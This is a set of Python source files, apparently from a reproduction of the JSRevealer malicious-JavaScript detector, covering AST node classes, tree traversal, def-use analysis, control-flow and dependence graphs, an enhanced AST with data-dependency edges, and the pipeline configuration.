class WithStatement(Node):
    type = "WithStatement"
    _fields = ("object", "body")

    def __init__(self, object, body, loc=(0, 0)):
        super().__init__(loc)
        self.object = object
        self.body = body


class DebuggerStatement(Node):
    type = "DebuggerStatement"


class FunctionDeclaration(Node):
    type = "FunctionDeclaration"
    _fields = ("id", "params", "body")

    def __init__(self, id, params, body, loc=(0, 0)):
        super().__init__(loc)
        self.id = id
        self.params = params
        self.body = body


# --------------------------------------------------------------- expressions


class Identifier(Node):
    type = "Identifier"
    _attrs = ("name",)

    def __init__(self, name: str, loc=(0, 0)):
        super().__init__(loc)
        self.name = name


class Literal(Node):
    type = "Literal"
    _attrs = ("value", "raw")

    def __init__(self, value: Any, raw: str = "", loc=(0, 0)):
        super().__init__(loc)
        self.value = value
        self.raw = raw


class TemplateLiteral(Node):
    """A template literal without substitutions (lexer-enforced subset)."""

    type = "TemplateLiteral"
    _attrs = ("value",)

    def __init__(self, value: str, loc=(0, 0)):
        super().__init__(loc)
        self.value = value


class RegExpLiteral(Node):
    type = "Literal"  # Esprima represents regexes as Literal with a regex attr
    _attrs = ("value", "raw", "regex")

    def __init__(self, pattern: str, flags: str, raw: str, loc=(0, 0)):
        super().__init__(loc)
        self.value = raw
        self.raw = raw
        self.regex = {"pattern": pattern, "flags": flags}


class ThisExpression(Node):
    type = "ThisExpression"


class ArrayExpression(Node):
    type = "ArrayExpression"
    _fields = ("elements",)

    def __init__(self, elements: list[Node | None], loc=(0, 0)):
        super().__init__(loc)
        self.elements = elements

    def children(self) -> Iterator[Node]:
        for element in self.elements:
            if isinstance(element, Node):
                yield element


class ObjectExpression(Node):
    type = "ObjectExpression"
    _fields = ("properties",)

    def __init__(self, properties: list["Property"], loc=(0, 0)):
        super().__init__(loc)
        self.properties = properties


class Property(Node):
    type = "Property"
    _fields = ("key", "value")
    _attrs = ("kind", "computed")

    def __init__(self, key, value, kind="init", computed=False, loc=(0, 0)):
        super().__init__(loc)
        self.key = key
        self.value = value
        self.kind = kind
        self.computed = computed


class FunctionExpression(Node):
    type = "FunctionExpression"
    _fields = ("id", "params", "body")

    def __init__(self, id, params, body, loc=(0, 0)):
        super().__init__(loc)
        self.id = id
        self.params = params
        self.body = body


class ArrowFunctionExpression(Node):
    type = "ArrowFunctionExpression"
    _fields = ("params", "body")
    _attrs = ("expression",)

    def __init__(self, params, body, expression: bool, loc=(0, 0)):
        super().__init__(loc)
        self.params = params
        self.body = body
        self.expression = expression  # True when body is an expression


class UnaryExpression(Node):
    type = "UnaryExpression"
    _fields = ("argument",)
    _attrs = ("operator", "prefix")

    def __init__(self, operator, argument, loc=(0, 0)):
        super().__init__(loc)
        self.operator = operator
        self.argument = argument
        self.prefix = True


class UpdateExpression(Node):
    type = "UpdateExpression"
    _fields = ("argument",)
    _attrs = ("operator", "prefix")

    def __init__(self, operator, argument, prefix, loc=(0, 0)):
        super().__init__(loc)
        self.operator = operator
        self.argument = argument
        self.prefix = prefix


class BinaryExpression(Node):
    type = "BinaryExpression"
    _fields = ("left", "right")
    _attrs = ("operator",)

    def __init__(self, operator, left, right, loc=(0, 0)):
        super().__init__(loc)
        self.operator = operator
        self.left = left
        self.right = right


class LogicalExpression(Node):
    type = "LogicalExpression"
    _fields = ("left", "right")
    _attrs = ("operator",)

    def __init__(self, operator, left, right, loc=(0, 0)):
        super().__init__(loc)
        self.operator = operator
        self.left = left
        self.right = right


class AssignmentExpression(Node):
    type = "AssignmentExpression"
    _fields = ("left", "right")
    _attrs = ("operator",)

    def __init__(self, operator, left, right, loc=(0, 0)):
        super().__init__(loc)
        self.operator = operator
        self.left = left
        self.right = right


class ConditionalExpression(Node):
    type = "ConditionalExpression"
    _fields = ("test", "consequent", "alternate")

    def __init__(self, test, consequent, alternate, loc=(0, 0)):
        super().__init__(loc)
        self.test = test
        self.consequent = consequent
        self.alternate = alternate


class CallExpression(Node):
    type = "CallExpression"
    _fields = ("callee", "arguments")

    def __init__(self, callee, arguments, loc=(0, 0)):
        super().__init__(loc)
        self.callee = callee
        self.arguments = arguments


class NewExpression(Node):
    type = "NewExpression"
    _fields = ("callee", "arguments")

    def __init__(self, callee, arguments, loc=(0, 0)):
        super().__init__(loc)
        self.callee = callee
        self.arguments = arguments


class MemberExpression(Node):
    type = "MemberExpression"
    _fields = ("object", "property")
    _attrs = ("computed",)

    def __init__(self, object, property, computed, loc=(0, 0)):
        super().__init__(loc)
        self.object = object
        self.property = property
        self.computed = computed


class SequenceExpression(Node):
    type = "SequenceExpression"
    _fields = ("expressions",)

    def __init__(self, expressions, loc=(0, 0)):
        super().__init__(loc)
        self.expressions = expressions


class SpreadElement(Node):
    type = "SpreadElement"
    _fields = ("argument",)

    def __init__(self, argument, loc=(0, 0)):
        super().__init__(loc)
        self.argument = argument


#: Node types that close over their own variable scope.
FUNCTION_TYPES = frozenset(
    {"FunctionDeclaration", "FunctionExpression", "ArrowFunctionExpression"}
)

#: Leaf node types for path extraction (carry a printable value).
LEAF_TYPES = frozenset({"Identifier", "Literal", "TemplateLiteral", "ThisExpression"})
