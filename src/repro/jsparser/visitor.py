"""Tree traversal utilities shared by all AST consumers."""

from __future__ import annotations

from typing import Callable, Iterator

from .ast_nodes import FUNCTION_TYPES, Node


def walk(root: Node) -> Iterator[Node]:
    """Yield ``root`` and every descendant in depth-first pre-order."""
    stack = [root]
    while stack:
        node = stack.pop()
        yield node
        stack.extend(reversed(list(node.children())))


def walk_with_parent(root: Node) -> Iterator[tuple[Node, Node | None]]:
    """Yield ``(node, parent)`` pairs in depth-first pre-order."""
    stack: list[tuple[Node, Node | None]] = [(root, None)]
    while stack:
        node, parent = stack.pop()
        yield node, parent
        stack.extend((child, node) for child in reversed(list(node.children())))


def count_nodes(root: Node) -> int:
    """Total number of nodes in the tree."""
    return sum(1 for _ in walk(root))


def find_all(root: Node, type_: str) -> list[Node]:
    """All nodes of the given ESTree type, in pre-order."""
    return [node for node in walk(root) if node.type == type_]


class Visitor:
    """ESTree visitor with ``visit_<Type>`` dispatch.

    Subclasses override ``visit_IfStatement`` etc.; unhandled types fall
    through to :meth:`generic_visit`, which recurses into children.
    """

    def visit(self, node: Node) -> None:
        method: Callable[[Node], None] = getattr(self, f"visit_{node.type}", self.generic_visit)
        method(node)

    def generic_visit(self, node: Node) -> None:
        for child in node.children():
            self.visit(child)


class FunctionScopedVisitor(Visitor):
    """A visitor that by default does *not* descend into nested functions.

    Useful for per-function analyses (e.g. collecting the variables a
    function body reads without confusing them with inner-closure locals).
    """

    def visit(self, node: Node) -> None:
        method = getattr(self, f"visit_{node.type}", None)
        if method is not None:
            method(node)
            return
        if node.type in FUNCTION_TYPES:
            return
        self.generic_visit(node)
