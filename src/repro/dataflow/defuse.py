"""Definition–use analysis over the scope-resolved AST.

For every variable binding, classifies each reference as a *definition*
(write) or a *use* (read), in source order.  The enhanced AST
(:mod:`repro.dataflow.enhanced_ast`) connects each use to the definitions
that may reach it; the PDG (:mod:`repro.dataflow.pdg`) consumes the same
classification at statement granularity.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.jsparser import ast_nodes as ast
from repro.jsparser.scope import Binding, ScopeAnalyzer, analyze_scopes
from repro.jsparser.visitor import walk_with_parent


@dataclass
class VarEvent:
    """One read or write of a variable."""

    binding: Binding
    node: ast.Identifier
    kind: str  # "def" | "use"
    order: int  # pre-order index in the tree walk (source order proxy)


@dataclass
class DefUseInfo:
    """All variable events for one program."""

    analyzer: ScopeAnalyzer
    events: list[VarEvent] = field(default_factory=list)
    #: id(Identifier) -> VarEvent
    event_of_node: dict[int, VarEvent] = field(default_factory=dict)

    def events_for(self, binding: Binding) -> list[VarEvent]:
        return [e for e in self.events if e.binding is binding]

    def defs_for(self, binding: Binding) -> list[VarEvent]:
        return [e for e in self.events if e.binding is binding and e.kind == "def"]

    def uses_for(self, binding: Binding) -> list[VarEvent]:
        return [e for e in self.events if e.binding is binding and e.kind == "use"]


def _is_write(node: ast.Identifier, parent: ast.Node | None) -> bool:
    """Is the identifier the target of an assignment/update/declaration?"""
    if parent is None:
        return False
    if parent.type == "AssignmentExpression" and parent.left is node:
        return True
    if parent.type == "UpdateExpression" and parent.argument is node:
        return True
    if parent.type == "VariableDeclarator" and parent.id is node:
        return False  # handled as declaration elsewhere; init decides
    if parent.type in ("ForInStatement", "ForOfStatement") and parent.left is node:
        return True
    return False


def analyze_defuse(program: ast.Program, analyzer: ScopeAnalyzer | None = None) -> DefUseInfo:
    """Classify every resolved identifier reference as def or use.

    Declaration identifiers with an initializer are recorded as definitions
    even though scope analysis does not treat them as references;
    compound assignments (``x += 1``) and updates (``x++``) count as *both*
    a use and a definition — the use event is emitted first.
    """
    if analyzer is None:
        analyzer = analyze_scopes(program)
    info = DefUseInfo(analyzer)
    order = 0

    for node, parent in walk_with_parent(program):
        order += 1
        if node.type != "Identifier":
            continue

        # Declarations with init: `var x = e` defines x.
        if parent is not None and parent.type == "VariableDeclarator" and parent.id is node:
            binding = analyzer.global_scope.resolve(node.name) or _resolve_in_any(analyzer, node.name)
            binding = _binding_for_declarator(analyzer, node, parent) or binding
            if binding is not None and parent.init is not None:
                event = VarEvent(binding, node, "def", order)
                info.events.append(event)
                info.event_of_node[id(node)] = event
            continue

        binding = analyzer.binding_of_ref.get(id(node))
        if binding is None:
            continue

        compound = (
            parent is not None
            and parent.type == "AssignmentExpression"
            and parent.left is node
            and parent.operator != "="
        ) or (parent is not None and parent.type == "UpdateExpression")

        if compound:
            info.events.append(VarEvent(binding, node, "use", order))
            event = VarEvent(binding, node, "def", order)
        elif _is_write(node, parent):
            event = VarEvent(binding, node, "def", order)
        else:
            event = VarEvent(binding, node, "use", order)
        info.events.append(event)
        info.event_of_node[id(node)] = event

    return info


def _binding_for_declarator(analyzer: ScopeAnalyzer, node: ast.Identifier, declarator) -> Binding | None:
    """Find the binding a declarator's id belongs to (it isn't a reference)."""
    for scope in analyzer.global_scope.iter_scopes():
        binding = scope.bindings.get(node.name)
        if binding is not None and declarator in binding.declarations:
            return binding
    # Fall back to name resolution from the global scope downward.
    return _resolve_in_any(analyzer, node.name)


def _resolve_in_any(analyzer: ScopeAnalyzer, name: str) -> Binding | None:
    for scope in analyzer.global_scope.iter_scopes():
        if name in scope.bindings:
            return scope.bindings[name]
    return None
