"""Data-flow analyses: def-use chains, enhanced AST, CFG, PDG.

The *enhanced AST* (AST + data-dependency edges) is the paper's central
representation; the CFG/PDG exist for the JSTAP comparison baseline.
"""

from .cfg import CFG, build_cfg, build_function_cfg
from .defuse import DefUseInfo, VarEvent, analyze_defuse
from .enhanced_ast import DependencyEdge, EnhancedAST, build_enhanced_ast, build_regular_ast
from .pdg import PDG, build_pdg

__all__ = [
    "CFG",
    "build_cfg",
    "build_function_cfg",
    "DefUseInfo",
    "VarEvent",
    "analyze_defuse",
    "DependencyEdge",
    "EnhancedAST",
    "build_enhanced_ast",
    "build_regular_ast",
    "PDG",
    "build_pdg",
]
