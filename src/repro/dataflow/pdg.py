"""Program dependence graph (PDG) construction.

The PDG layers two edge families over statement nodes:

* **control dependence** — approximated structurally: a statement is control
  dependent on the nearest enclosing branch/loop/switch statement (this is
  the tree-shaped approximation JSTAP's implementation also relies on), and
* **data dependence** — statement S2 depends on S1 when S1 defines a
  variable that S2 uses and S1's definition can reach S2.

The JSTAP baseline extracts n-grams by walking these edges.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import networkx as nx

from repro.jsparser import ast_nodes as ast
from repro.jsparser.visitor import walk, walk_with_parent

from .defuse import analyze_defuse

_CONTROL_PARENTS = frozenset(
    {
        "IfStatement",
        "WhileStatement",
        "DoWhileStatement",
        "ForStatement",
        "ForInStatement",
        "ForOfStatement",
        "SwitchStatement",
        "TryStatement",
        "WithStatement",
        "FunctionDeclaration",
        "FunctionExpression",
        "ArrowFunctionExpression",
    }
)

_STATEMENT_SUFFIXES = ("Statement", "Declaration")


def _is_statement(node: ast.Node) -> bool:
    return node.type.endswith(_STATEMENT_SUFFIXES)


@dataclass
class PDG:
    """Statement-level program dependence graph."""

    graph: nx.DiGraph = field(default_factory=nx.DiGraph)
    node_of: dict[int, ast.Node] = field(default_factory=dict)

    def add_node(self, stmt: ast.Node) -> int:
        key = id(stmt)
        if key not in self.node_of:
            self.graph.add_node(key, type=stmt.type)
            self.node_of[key] = stmt
        return key

    def add_edge(self, src: ast.Node, dst: ast.Node, kind: str) -> None:
        self.graph.add_edge(self.add_node(src), self.add_node(dst), kind=kind)

    def edges_of_kind(self, kind: str) -> list[tuple[ast.Node, ast.Node]]:
        return [
            (self.node_of[u], self.node_of[v])
            for u, v, data in self.graph.edges(data=True)
            if data.get("kind") == kind
        ]

    @property
    def statements(self) -> list[ast.Node]:
        return list(self.node_of.values())


def build_pdg(program: ast.Program) -> PDG:
    """Build the statement-level PDG of a program."""
    pdg = PDG()

    # Map every node to its nearest enclosing *statement*, for lifting
    # identifier-level def/use events to statement granularity.
    enclosing: dict[int, ast.Node | None] = {}
    parent_of = {id(n): p for n, p in walk_with_parent(program)}

    def nearest_statement(node: ast.Node) -> ast.Node | None:
        cursor: ast.Node | None = node
        while cursor is not None and not _is_statement(cursor):
            cursor = parent_of.get(id(cursor))
        return cursor

    for node in walk(program):
        if _is_statement(node):
            pdg.add_node(node)
            enclosing[id(node)] = node

    # ---------------------------------------------------- control dependence
    for node in walk(program):
        if not _is_statement(node):
            continue
        cursor = parent_of.get(id(node))
        while cursor is not None:
            if cursor.type in _CONTROL_PARENTS:
                pdg.add_edge(cursor, node, kind="control")
                break
            cursor = parent_of.get(id(cursor))

    # ------------------------------------------------------- data dependence
    defuse = analyze_defuse(program)
    events_by_binding: dict[int, list] = {}
    for event in defuse.events:
        events_by_binding.setdefault(id(event.binding), []).append(event)

    for events in events_by_binding.values():
        events.sort(key=lambda e: e.order)
        definitions = [e for e in events if e.kind == "def"]
        for use in (e for e in events if e.kind == "use"):
            prior = [d for d in definitions if d.order < use.order]
            source_event = prior[-1] if prior else (definitions[0] if definitions else None)
            if source_event is None:
                continue
            src_stmt = nearest_statement(source_event.node)
            dst_stmt = nearest_statement(use.node)
            if src_stmt is None or dst_stmt is None or src_stmt is dst_stmt:
                continue
            pdg.add_edge(src_stmt, dst_stmt, kind="data")

    return pdg
