"""Control-flow graph construction at statement granularity.

JSTAP's "pdg" abstraction layers control- and data-flow edges over the AST;
our JSTAP baseline (:mod:`repro.baselines.jstap`) consumes this CFG plus the
def-use facts to build that program dependence graph.  Nodes are statement
AST nodes; edges are possible successor relations.  The construction is
intraprocedural and conservative (exceptions are not modeled; ``try`` blocks
flow into their handlers and finalizers).
"""

from __future__ import annotations

from dataclasses import dataclass, field

import networkx as nx

from repro.jsparser import ast_nodes as ast

#: Statement node types that form CFG nodes of their own.
_BODY_TYPES = frozenset(
    {
        "ExpressionStatement",
        "VariableDeclaration",
        "ReturnStatement",
        "BreakStatement",
        "ContinueStatement",
        "ThrowStatement",
        "DebuggerStatement",
        "EmptyStatement",
        "FunctionDeclaration",
    }
)


@dataclass
class CFG:
    """A control-flow graph over statement nodes.

    The underlying storage is a :class:`networkx.DiGraph` whose node keys
    are ``id(statement)``; ``node_of`` maps keys back to AST nodes.
    """

    graph: nx.DiGraph = field(default_factory=nx.DiGraph)
    node_of: dict[int, ast.Node] = field(default_factory=dict)
    entry: int | None = None

    def add_node(self, stmt: ast.Node) -> int:
        key = id(stmt)
        if key not in self.node_of:
            self.graph.add_node(key, type=stmt.type)
            self.node_of[key] = stmt
        return key

    def add_edge(self, src: ast.Node, dst: ast.Node, kind: str = "flow") -> None:
        self.graph.add_edge(self.add_node(src), self.add_node(dst), kind=kind)

    @property
    def statements(self) -> list[ast.Node]:
        return list(self.node_of.values())

    def successors(self, stmt: ast.Node) -> list[ast.Node]:
        return [self.node_of[k] for k in self.graph.successors(id(stmt))]


class _Builder:
    """Recursive CFG builder; returns (first, exits) per statement list."""

    def __init__(self) -> None:
        self.cfg = CFG()
        # (break targets, continue targets) stacks for loops/switches.
        self._break_exits: list[list[ast.Node]] = []
        self._continue_targets: list[ast.Node | None] = []

    def build(self, program: ast.Program) -> CFG:
        first, _ = self._sequence(program.body)
        if first is not None:
            self.cfg.entry = id(first)
        # Functions get their own disconnected subgraphs.
        return self.cfg

    # ------------------------------------------------------------- sequences

    def _sequence(self, body: list[ast.Node]) -> tuple[ast.Node | None, list[ast.Node]]:
        """Wire a statement list; returns its first node and open exits."""
        first: ast.Node | None = None
        exits: list[ast.Node] = []
        for stmt in body:
            stmt_first, stmt_exits = self._statement(stmt)
            if stmt_first is None:
                continue
            if first is None:
                first = stmt_first
            for open_exit in exits:
                self.cfg.add_edge(open_exit, stmt_first)
            exits = stmt_exits
        return first, exits

    # ------------------------------------------------------------ statements

    def _statement(self, stmt: ast.Node) -> tuple[ast.Node | None, list[ast.Node]]:
        type_ = stmt.type

        if type_ in _BODY_TYPES:
            self.cfg.add_node(stmt)
            if type_ == "FunctionDeclaration":
                self._function_body(stmt)
            if type_ in ("ReturnStatement", "ThrowStatement", "BreakStatement", "ContinueStatement"):
                if type_ == "BreakStatement" and self._break_exits:
                    self._break_exits[-1].append(stmt)
                elif type_ == "ContinueStatement" and self._continue_targets and self._continue_targets[-1] is not None:
                    self.cfg.add_edge(stmt, self._continue_targets[-1], kind="back")
                return stmt, []  # no fallthrough
            return stmt, [stmt]

        if type_ == "BlockStatement":
            return self._sequence(stmt.body)

        if type_ == "IfStatement":
            self.cfg.add_node(stmt)
            exits: list[ast.Node] = []
            then_first, then_exits = self._statement(stmt.consequent)
            if then_first is not None:
                self.cfg.add_edge(stmt, then_first, kind="true")
                exits.extend(then_exits)
            else:
                exits.append(stmt)
            if stmt.alternate is not None:
                else_first, else_exits = self._statement(stmt.alternate)
                if else_first is not None:
                    self.cfg.add_edge(stmt, else_first, kind="false")
                    exits.extend(else_exits)
                else:
                    exits.append(stmt)
            else:
                exits.append(stmt)
            return stmt, exits

        if type_ in ("WhileStatement", "DoWhileStatement", "ForStatement", "ForInStatement", "ForOfStatement"):
            return self._loop(stmt)

        if type_ == "SwitchStatement":
            self.cfg.add_node(stmt)
            self._break_exits.append([])
            previous_exits: list[ast.Node] = []
            has_default = False
            for case in stmt.cases:
                has_default = has_default or case.test is None
                case_first, case_exits = self._sequence(case.consequent)
                if case_first is not None:
                    self.cfg.add_edge(stmt, case_first, kind="case")
                    for open_exit in previous_exits:  # fallthrough
                        self.cfg.add_edge(open_exit, case_first)
                    previous_exits = case_exits
            exits = previous_exits + self._break_exits.pop()
            if not has_default:
                exits.append(stmt)
            return stmt, exits

        if type_ == "TryStatement":
            block_first, block_exits = self._statement(stmt.block)
            first = block_first
            exits = list(block_exits)
            if stmt.handler is not None:
                handler_first, handler_exits = self._statement(stmt.handler.body)
                if first is not None and handler_first is not None:
                    self.cfg.add_edge(first, handler_first, kind="exception")
                exits.extend(handler_exits)
                if first is None:
                    first = handler_first
            if stmt.finalizer is not None:
                fin_first, fin_exits = self._statement(stmt.finalizer)
                if fin_first is not None:
                    for open_exit in exits:
                        self.cfg.add_edge(open_exit, fin_first)
                    exits = fin_exits
                    if first is None:
                        first = fin_first
            return first, exits

        if type_ == "LabeledStatement":
            return self._statement(stmt.body)

        if type_ == "WithStatement":
            self.cfg.add_node(stmt)
            body_first, body_exits = self._statement(stmt.body)
            if body_first is not None:
                self.cfg.add_edge(stmt, body_first)
                return stmt, body_exits
            return stmt, [stmt]

        # Unknown statement kinds become opaque nodes.
        self.cfg.add_node(stmt)
        return stmt, [stmt]

    def _loop(self, stmt: ast.Node) -> tuple[ast.Node, list[ast.Node]]:
        self.cfg.add_node(stmt)
        self._break_exits.append([])
        self._continue_targets.append(stmt)
        body_first, body_exits = self._statement(stmt.body)
        if body_first is not None:
            self.cfg.add_edge(stmt, body_first, kind="true")
            for open_exit in body_exits:
                self.cfg.add_edge(open_exit, stmt, kind="back")
        self._continue_targets.pop()
        breaks = self._break_exits.pop()
        return stmt, [stmt] + breaks

    def _function_body(self, fn: ast.Node) -> None:
        body = getattr(fn, "body", None)
        if body is not None and body.type == "BlockStatement":
            self._sequence(body.body)


class _ShallowBuilder(_Builder):
    """A builder that stays inside one function: nested function bodies
    are left out of the graph (the taint engine analyzes each function
    against its own CFG and crosses boundaries via call-graph summaries).
    """

    def _function_body(self, fn: ast.Node) -> None:  # noqa: ARG002 - interface
        return


def build_cfg(program: ast.Program) -> CFG:
    """Build the statement-level control-flow graph of a program."""
    return _Builder().build(program)


def build_function_cfg(body: list[ast.Node]) -> CFG:
    """Build a CFG over one statement list (a function body or the
    top-level program), without descending into nested functions."""
    builder = _ShallowBuilder()
    first, _ = builder._sequence(body)
    if first is not None:
        builder.cfg.entry = id(first)
    return builder.cfg
