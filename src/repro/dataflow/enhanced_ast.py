"""Enhanced AST: the paper's core code representation.

Section III-B of the paper: parse the script into an AST and add a *data
dependency edge* between leaves that refer to the same variable (a statement
reading data a preceding statement produced).  Leaves that participate in a
data dependency keep their concrete value (the variable name); all other
value-bearing leaves are abstracted to a type indicator — ``@var_str`` for
string-typed variables/literals, ``@var_int`` for integers, and so on.

This module wraps a parsed program with:

* ``dependency_edges`` — pairs of Identifier leaves (def → use) that share a
  binding, and
* ``leaf_value(node)`` — the path-extraction value for a leaf: the concrete
  name when the leaf is an endpoint of a dependency edge, else an abstraction.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.jsparser import ast_nodes as ast
from repro.jsparser.scope import ScopeAnalyzer, analyze_scopes
from repro.jsparser.visitor import walk_with_parent

from .defuse import DefUseInfo, analyze_defuse


@dataclass
class DependencyEdge:
    """A data-dependency edge between two leaves of the AST."""

    source: ast.Identifier  # the definition endpoint
    target: ast.Identifier  # the use endpoint
    name: str  # the shared variable name


@dataclass
class EnhancedAST:
    """A program AST plus data-flow annotations for path extraction."""

    program: ast.Program
    analyzer: ScopeAnalyzer
    defuse: DefUseInfo
    dependency_edges: list[DependencyEdge] = field(default_factory=list)
    #: Leaves (by id) that participate in at least one dependency edge.
    connected_leaves: set[int] = field(default_factory=set)
    #: id(node) -> parent node, for type inference of leaves.
    parent_of: dict[int, ast.Node | None] = field(default_factory=dict)

    # ------------------------------------------------------------- leaf value

    def leaf_value(self, node: ast.Node) -> str:
        """The path-context value for a leaf node.

        Identifiers on a dependency edge get a ``@dd_<type>`` marker —
        distinct from the plain ``@var_<type>`` of unconnected leaves, so
        paths carrying data flow stay distinguishable, while the marker
        itself is invariant under variable renaming.  (The paper keeps the
        concrete variable name here; we keep the *linkage signal* the name
        provides — same-variable endpoints are detected by value equality —
        without the rename-sensitivity of the raw text, which is what the
        paper's robustness argument actually relies on.)  Unresolved
        identifiers are host globals (``document``, ``eval``): obfuscators
        cannot rename those, so their real names are kept.
        """
        if node.type == "Identifier":
            if id(node) in self.connected_leaves:
                binding = self.analyzer.binding_of_ref.get(id(node)) or self._binding_for_name_slot(node)
                if binding is None:
                    return node.name
                return f"@dd_{self._infer_binding_type(binding)}"
            return self._abstract_identifier(node)
        if node.type == "Literal":
            return _abstract_literal(node)
        if node.type == "TemplateLiteral":
            return "@lit_str"
        if node.type == "ThisExpression":
            return "this"
        return f"@{node.type}"

    def _abstract_identifier(self, node: ast.Identifier) -> str:
        binding = self.analyzer.binding_of_ref.get(id(node))
        if binding is None:
            binding = self._binding_for_name_slot(node)
        if binding is None:
            # Unresolved == a host global like `document`; its name is part
            # of the platform API surface, not a renameable variable, so it
            # is kept — obfuscators cannot rename host objects safely.
            return node.name
        inferred = self._infer_binding_type(binding)
        return f"@var_{inferred}"

    def _binding_for_name_slot(self, node: ast.Identifier):
        """Resolve an identifier sitting in a declaration-name position.

        Declarator ids, function names, and parameters are not references,
        so ``binding_of_ref`` misses them; find the binding they declare.
        """
        parent = self.parent_of.get(id(node))
        if parent is None:
            return None
        for scope in self.analyzer.global_scope.iter_scopes():
            binding = scope.bindings.get(node.name)
            if binding is not None and any(d in (parent, node) for d in binding.declarations):
                return binding
        return None

    def _infer_binding_type(self, binding) -> str:
        """Infer a coarse type for a binding from its initializer, if any."""
        declaration = binding.declaration
        init = getattr(declaration, "init", None)
        if init is None:
            if binding.kind == "function":
                return "func"
            if binding.kind == "param":
                return "any"
            return "any"
        return _infer_expression_type(init)

    # ---------------------------------------------------------------- counts

    @property
    def edge_count(self) -> int:
        return len(self.dependency_edges)


def _abstract_literal(node) -> str:
    if getattr(node, "regex", None) is not None:
        return "@lit_regex"
    value = node.value
    if isinstance(value, bool):
        return "@lit_bool"
    if isinstance(value, (int, float)):
        return "@lit_int" if float(value).is_integer() else "@lit_float"
    if isinstance(value, str):
        return "@lit_str"
    if value is None:
        return "@lit_null"
    return "@lit"


def _infer_expression_type(node: ast.Node) -> str:
    """Coarse static type of an initializer expression."""
    type_ = node.type
    if type_ == "Literal":
        if getattr(node, "regex", None) is not None:
            return "regex"
        value = node.value
        if isinstance(value, bool):
            return "bool"
        if isinstance(value, (int, float)):
            return "int" if float(value).is_integer() else "float"
        if isinstance(value, str):
            return "str"
        return "any"
    if type_ == "TemplateLiteral":
        return "str"
    if type_ == "ArrayExpression":
        return "arr"
    if type_ == "ObjectExpression":
        return "obj"
    if type_ in ("FunctionExpression", "ArrowFunctionExpression"):
        return "func"
    if type_ == "NewExpression":
        return "obj"
    if type_ == "BinaryExpression":
        if node.operator in ("==", "===", "!=", "!==", "<", ">", "<=", ">=", "in", "instanceof"):
            return "bool"
        if node.operator == "+":
            left = _infer_expression_type(node.left)
            right = _infer_expression_type(node.right)
            if "str" in (left, right):
                return "str"
            if left == right == "int":
                return "int"
            return "any"
        return "int"
    if type_ == "UnaryExpression":
        if node.operator in ("!",):
            return "bool"
        if node.operator == "typeof":
            return "str"
        if node.operator in ("-", "+", "~"):
            return "int"
        return "any"
    if type_ == "LogicalExpression":
        return _infer_expression_type(node.right)
    if type_ == "ConditionalExpression":
        consequent = _infer_expression_type(node.consequent)
        alternate = _infer_expression_type(node.alternate)
        return consequent if consequent == alternate else "any"
    return "any"


def build_enhanced_ast(program: ast.Program) -> EnhancedAST:
    """Attach data-dependency edges to a parsed program.

    An edge runs from each definition of a variable to every *later* use of
    the same binding (source order approximated by pre-order index).  This
    is the "a program statement refers to the data of a preceding statement"
    relation of the paper's Figure 2.
    """
    analyzer = analyze_scopes(program)
    defuse = analyze_defuse(program, analyzer)
    enhanced = EnhancedAST(program, analyzer, defuse)

    enhanced.parent_of = {id(node): parent for node, parent in walk_with_parent(program)}

    # Group events per binding, then connect defs to subsequent uses.
    events_by_binding: dict[int, list] = {}
    binding_objects: dict[int, object] = {}
    for event in defuse.events:
        events_by_binding.setdefault(id(event.binding), []).append(event)
        binding_objects[id(event.binding)] = event.binding

    for binding_id, events in events_by_binding.items():
        binding = binding_objects[binding_id]
        events.sort(key=lambda e: e.order)
        definitions = [e for e in events if e.kind == "def"]
        uses = [e for e in events if e.kind == "use"]
        for use in uses:
            # Reaching definition approximation: the latest def before the
            # use; if none precedes it (use-before-def via hoisting), link
            # the earliest def.
            prior = [d for d in definitions if d.order < use.order]
            if prior:
                source = prior[-1]
            elif definitions:
                source = definitions[0]
            else:
                continue
            if source.node is use.node:
                continue
            enhanced.dependency_edges.append(DependencyEdge(source.node, use.node, binding.name))
            enhanced.connected_leaves.add(id(source.node))
            enhanced.connected_leaves.add(id(use.node))

    return enhanced


def build_regular_ast(program: ast.Program) -> EnhancedAST:
    """The ablation representation: same wrapper, *no* dependency edges.

    Used by the Table IV "regular AST" rows — every identifier leaf is
    abstracted, so paths carry no data-flow information.
    """
    analyzer = analyze_scopes(program)
    defuse = analyze_defuse(program, analyzer)
    enhanced = EnhancedAST(program, analyzer, defuse)
    enhanced.parent_of = {id(node): parent for node, parent in walk_with_parent(program)}
    return enhanced
