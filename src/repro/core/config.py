"""Configuration for the JSRevealer pipeline."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.ml import RandomForestClassifier


def default_classifier():
    """The paper's final choice (Table II): a random forest."""
    return RandomForestClassifier(n_estimators=60, random_state=0)


@dataclass
class JSRevealerConfig:
    """All tunables of the pipeline, with the paper's defaults.

    Attributes:
        k_benign: Bisecting-K-Means cluster count on benign path vectors
            (paper's final value: 11).
        k_malicious: Cluster count on malicious path vectors (paper: 10).
        embed_dim: Path-embedding size d (paper: 300; tests shrink it).
        pretrain_epochs: Embedding pre-training epochs (paper: 100; the
            library default is lower because our numpy trainer converges on
            the synthetic corpus far earlier).
        max_path_length / max_path_width: Path-extraction bounds (12, 4).
        use_dataflow: enhanced AST (True) vs regular AST ablation (False).
        contamination: Expected outlier fraction for FastABOD.
        overlap_threshold: Benign/malicious cluster pairs whose center
            distance is below this multiple of their combined radius are
            dropped as "high-overlap" features.
        max_paths_per_script: Cap on embedded paths per script (weight-
            ranked) to bound cost on pathological inputs.
        assign_radius_factor: Cluster-membership cutoff multiplier for
            feature aggregation (see FeatureExtractor).
        use_metaod: Run the MetaOD-style selector instead of hardwiring
            FastABOD (the selector picks FastABOD on this data; keeping it
            off by default avoids re-running the zoo on every fit).
        classifier_factory: Builds the final classifier.
        seed: Global randomness seed.
    """

    k_benign: int = 11
    k_malicious: int = 10
    embed_dim: int = 300
    pretrain_epochs: int = 30
    pretrain_lr: float = 1e-3
    max_path_length: int = 12
    max_path_width: int = 4
    use_dataflow: bool = True
    contamination: float = 0.1
    overlap_threshold: float = 0.25
    max_paths_per_script: int = 300
    assign_radius_factor: float = 1.0
    assignment: str = "soft"
    use_metaod: bool = False
    classifier_factory: Callable = field(default=default_classifier)
    seed: int = 0

    def validate(self) -> None:
        if self.k_benign < 1 or self.k_malicious < 1:
            raise ValueError("cluster counts must be positive")
        if self.embed_dim < 2:
            raise ValueError("embed_dim must be at least 2")
